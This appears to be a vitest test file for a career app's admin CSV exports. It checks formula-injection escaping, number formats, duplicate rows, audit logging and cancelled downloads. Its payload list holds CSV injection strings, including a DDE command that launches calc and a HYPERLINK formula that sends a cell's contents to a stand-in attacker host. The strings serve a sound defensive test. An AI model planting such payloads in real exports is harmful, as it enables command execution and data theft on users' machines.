import { parse } from "csv-parse/sync";
import { afterAll, beforeAll, describe, expect, test } from "vitest";
import type { Deps } from "@/lib/use-cases/deps";
import { callApi, getReply } from "./call-api";
import { DRONE_PILOT } from "./career-form";
import { ENGINES, openTestDeps } from "./each-engine";
import { makeAccount, type TestAccount } from "./make-account";

/** What a spreadsheet would run, or take for another cell. */
const PAYLOADS = [
  "=1+1",
  "+cmd|' /C calc'!A0",
  "-2+3+cmd",
  "@SUM(A1:A9)",
  '=HYPERLINK("https://evil.example/?x="&A1,"click")',
  "＝1+1",
  'quote " and, comma; and =2',
];

describe.each(ENGINES)("exports (%s database)", (engine) => {
  let deps: Deps;
  let admin: TestAccount;

  beforeAll(async () => {
    deps = await openTestDeps(engine);
    admin = await makeAccount(deps, "admin");
  });
  afterAll(() => deps.close());

  const as = () => ({ accessToken: admin.accessToken });
  type Name = "exportPeople" | "exportCareers" | "exportAudit" | "exportInteractions";
  const download = async (name: Name, query: Record<string, string | number> = {}) => {
    const reply = await callApi(name, { query, ...as() });
    expect([reply.status, reply.contentType]).toEqual([200, "text/csv; charset=utf-8"]);
    expect(reply.headers.get("content-disposition")).toMatch(
      /^attachment; filename="waymark-[a-z]+-\d{4}-\d\d-\d\d\.csv"$/,
    );
    expect(reply.text.charCodeAt(0)).not.toBe(0xfeff);
    return { text: reply.text, rows: parse(reply.text, { columns: true }) as Record<string, string>[] };
  };

  test("no cell of an export is a formula, whatever somebody typed, and nothing typed is lost", async () => {
    const codes = await Promise.all(
      PAYLOADS.map(async (payload, i) => {
        const body = { ...DRONE_PILOT, title: payload, fits: `${payload} x${i}`, keywords: [payload, "drones"] };
        return (await getReply("addCareer", { body, ...as() })).code;
      }),
    );
    const { rows } = await download("exportCareers", { origin: "own" });
    for (const [i, code] of codes.entries()) {
      const row = rows.find((candidate) => candidate.code === code);
      expect(row?.title).toBe(/^[=+\-@＝]/.test(PAYLOADS[i] ?? "") ? `'${PAYLOADS[i]}` : PAYLOADS[i]);
    }
    for (const row of rows) for (const cell of Object.values(row)) expect(cell).not.toMatch(/^[=+@\t\r\n]|^-[^\d]/);
    const audit = await download("exportAudit", { action: "career" });
    expect(audit.rows.map((row) => row.target_name)).toContain("'=1+1");
    expect(audit.rows.find((row) => row.target_id === codes[0])?.details).toContain('"title":"=1+1"');
  });

  test("texts that begin with a tab, a line break or a letter of another script are guarded too", async () => {
    for (const [i, email] of ["\t=1", "\r=1", "\n=1", "-1"].entries()) {
      await makeAccount(deps, "provider", { email: `${email}${i}@example.org` });
    }
    const { text, rows } = await download("exportPeople", { role: "provider" });
    expect(rows).toHaveLength(4);
    for (const { email } of rows) expect(email).toMatch(/^'[\t\r\n-]/);
    expect(text).not.toMatch(/argon2|passwordHash/i);
  });

  test("numbers stay numbers, also below zero", async () => {
    const { rows } = await download("exportCareers", { origin: "shipped", sort: "growth" });
    expect(rows.filter((row) => Number(row.growth_percent) < 0).length).toBeGreaterThan(50);
    expect(rows.every((row) => /^(-?\d+(\.\d+)?)?$/.test(row.growth_percent ?? ""))).toBe(true);
  });

  test("an export of more rows than are asked for at once has each of them once", async () => {
    const { rows } = await download("exportCareers", { origin: "shipped" });
    expect(new Set(rows.map((row) => row.code)).size).toBe(rows.length);
    expect(rows.length).toBe(await deps.db.career.count({ where: { isShipped: true } }));
  });

  test("interactions are summed by career", async () => {
    const guest = await makeAccount(deps, "guest");
    const about = { userId: guest.id, careerCode: "15-1252.00" };
    await deps.db.interaction.createMany({
      data: [
        { ...about, id: deps.newId(), kind: "click", label: 0.4 },
        { ...about, id: deps.newId(), kind: "save", label: 0.8 },
        { ...about, id: deps.newId(), kind: "save", label: 0.8, createdAt: new Date("2020-01-01") },
      ],
    });
    const { rows } = await download("exportInteractions", { days: 7 });
    expect(rows).toHaveLength(1);
    expect(rows[0]).toMatchObject({
      code: about.careerCode,
      title: "Software Developers",
      people: "1",
      clicks: "1",
      saves: "1",
    });
    expect(Number(rows[0]?.mean_label)).toBeCloseTo(0.6);
  });

  test("who took what out is recorded, without what was searched for", async () => {
    await download("exportPeople", { q: "somebody@example.com", role: "member" });
    const row = await deps.db.auditLog.findFirstOrThrow({
      where: { action: "export.people" },
      orderBy: { createdAt: "desc" },
    });
    expect(row).toMatchObject({ actorId: admin.id, details: { filters: { role: "member", status: "all" } } });
    expect(JSON.stringify(row)).not.toContain("somebody");
  });

  test("a download that is broken off leaves the server as it was", async () => {
    const { GET } = await import("@/app/api/v1/admin/exports/careers/route");
    const { NextRequest } = await import("next/server");
    const headers = { authorization: `Bearer ${admin.accessToken}` };
    const response = await GET(new NextRequest("http://localhost:3000/api/v1/admin/exports/careers", { headers }), {
      params: Promise.resolve({}),
    });
    const reader = response.body?.getReader();
    expect((await reader?.read())?.done).toBe(false);
    const next = reader?.read();
    await reader?.cancel();
    expect((await next)?.done).toBe(true);
    expect((await download("exportCareers", { q: "nurse" })).rows.length).toBeGreaterThan(3);
  });
});
